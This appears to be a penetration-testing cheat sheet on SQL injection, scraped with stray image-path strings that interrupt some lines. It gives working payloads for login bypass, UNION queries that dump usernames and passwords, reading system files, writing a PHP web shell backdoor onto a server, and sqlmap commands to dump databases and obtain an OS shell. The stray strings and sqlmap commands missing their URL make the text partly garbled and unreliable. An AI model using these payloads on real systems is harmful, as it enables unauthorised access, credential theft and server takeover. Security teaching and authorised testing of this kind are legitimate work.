SQL injection

SQL injection is a common vulnerability that enables attackers to inject commands and interact with databases. While typically exploited for data leakage, SQL vulnerabilities can also lead to server compromise.


The first step is to find input fields on the target site that likely interact with databases, such as login field, search fields, message threads, etc. We can use a single quote (') to check for potential vulnerabilities. Ideally, this will cause an error and we'll receive an indication from the server.

Authentication bypass

In normal operation we expect a login form to query the database, something like:

select * from users where name = 'admin' and password = 'password123';

We can manipulate the input to change how the command is processed by the database:admin' or 1=1;#
admin' or 1=1 LIMIT 1;#

Which results in query modification:

select * from users where name = 'admin' or 1=1;#' and password = 'password123';

The introduction of the single quote before the password entry removes the remainder of the statement. If this causes errors, we can also request a fixed number of returns using the LIMIT statement.

select * from users where name = 'admin' or 1=1 LIMIT 1;#

To replicate in a web application, we submit the following payload into a username field:

tom' or 1=1 LIMIT 1;#

This should result in an authenticated session login.

Enumerating Databases' - begin testing with single quote order by 1 -attempt to sort by first column

If this is successful and we receive the name of column, we can continue to increase the number until we receive an error. This can be performed manually or automated in BurpSuite Repeater.

Next we can extract row information using the UNION statement. union all select 1, 2, 3, 4

Depending on how the information is displayed, we can then modify our input to extract more information. In the following example we've identified that the column three falls in a logical spot on the page. union all select 1, 2, @@version union all select 1, 2, user() union all select 1, 2, table_name from information_schema.tables union all select 1, 2, column_name from information_schema.columns where table_name='users' union all select 1, username, password from users

Code Execution

In some cases we can use SQL injection to read/write system files and possibly write PHP onto the system for execution. union all select 1, 2,load_file('C://Windows/System32/drivers/etc/hosts')

If this is successful we can attempt to create a malicious file on the server. union all select 1, 2, "<?php echo shell_exec($_GET['cmd']);?>" into OUTFILE 'c:/xampp/htdocs/backdoor.php'

We may then be able to access the file with a command.

If thissucceeds, we can expand access by installing a full php shell on the server.


Tools such as SQLmap simplify the extraction of information from databases.

sqlmap -u -p "id"
sqlmap -u -p "id" --dbms=mysql --dump

SQLmap also has numerous other features including firewall bypass and attemptingto gain a shell on the target system.

sqlmap -u -p "id"--dbms=mysql --os-shell

Last updated